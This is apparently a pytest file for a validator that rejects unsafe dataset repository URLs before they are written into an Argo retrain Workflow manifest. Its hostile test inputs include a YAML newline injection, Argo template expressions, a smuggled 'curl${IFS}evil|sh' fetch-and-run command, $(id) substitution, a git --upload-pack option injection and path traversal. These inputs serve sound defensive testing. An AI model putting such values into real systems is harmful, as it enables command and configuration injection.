"""A dataset repository read from an MLflow tag is refused, with a clear error, unless it is safe to write into the
retrain Workflow's manifest (steps/check_triggers.py `check_repo`)."""

from __future__ import annotations

import re
from types import SimpleNamespace

import pytest
import yaml

from steps.check_triggers import TriggerError, TriggersConfig, check_repo, evaluate_triggers
from tests.test_triggers import filled_manifest, templates

HOSTILE = {
    "newline (YAML injection)": "https://example.org/data.git'\n  serviceAccountName: 'default",
    "quote breaking out of the YAML string": "https://example.org/x' , 'y",
    "Argo expression": "https://example.org/{{workflow.parameters.tracking-uri}}",
    "Argo expression alone": "{{=sprig.env('HOME')}}",
    "shell metacharacters": "https://example.org/data.git;curl${IFS}evil|sh",
    "command substitution": "/srv/$(id)",
    "plain http": "http://example.org/data.git",
    "ssh": "ssh://git@example.org/data.git",
    "file URL": "file:///etc",
    "credentials in the URL": "https://user:token@example.org/data.git",
    "git option": "--upload-pack=touch /tmp/pwned",
    "relative path": "data",
    "parent directory": "/srv/../etc",
    "space": "https://example.org/my data.git",
}
SAFE = ["https://github.com/org/data.git", "https://git.example.org:8443/ml/data", "/srv/git/data", "/tmp/x_y-z.git"]


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_repo_is_refused_naming_its_source(value):
    with pytest.raises(TriggerError, match=r"champion 7's dataset.repo tag is .* allowed: an https:// URL"):
        check_repo(value, "champion 7's dataset.repo tag")


@pytest.mark.parametrize("value", SAFE)
def test_safe_repo_passes_and_keeps_the_manifest_s_shape(value):
    assert check_repo(value, "x") == value
    manifest = filled_manifest(**{"dataset-repo": value})
    params = {p["name"]: p["value"] for p in manifest["spec"]["arguments"]["parameters"]}
    assert params["dataset-repo"] == value


def test_unchecked_the_newline_would_break_or_reshape_the_created_workflow():
    """What the check prevents: the raw value in the manifest no longer gives one dataset-repo parameter."""
    raw = templates()["submit-retrain"]["resource"]["manifest"]
    filled = re.sub(
        r"\{\{inputs\.parameters\.([a-z-]+)\}\}",
        "x",
        raw.replace("{{inputs.parameters.dataset-repo}}", HOSTILE["newline (YAML injection)"]),
    )
    try:
        params = yaml.safe_load(filled)["spec"]["arguments"]["parameters"]
    except yaml.YAMLError:
        return  # broken: the retrain would not be created
    assert [p for p in params if p["name"] == "dataset-repo"] != [
        {"name": "dataset-repo", "value": HOSTILE["newline (YAML injection)"]}
    ]


def test_a_hostile_tag_stops_the_check_before_anything_is_read():
    champion = SimpleNamespace(version="7", tags={"dataset.repo": HOSTILE["plain http"]})
    cfg = TriggersConfig(model_name="m", dataset_rev="main", run_id="r", out="out")
    with pytest.raises(TriggerError, match=re.escape("champion 7's dataset.repo tag is 'http://example.org/data.git'")):
        evaluate_triggers(cfg, client=None, champion=champion)
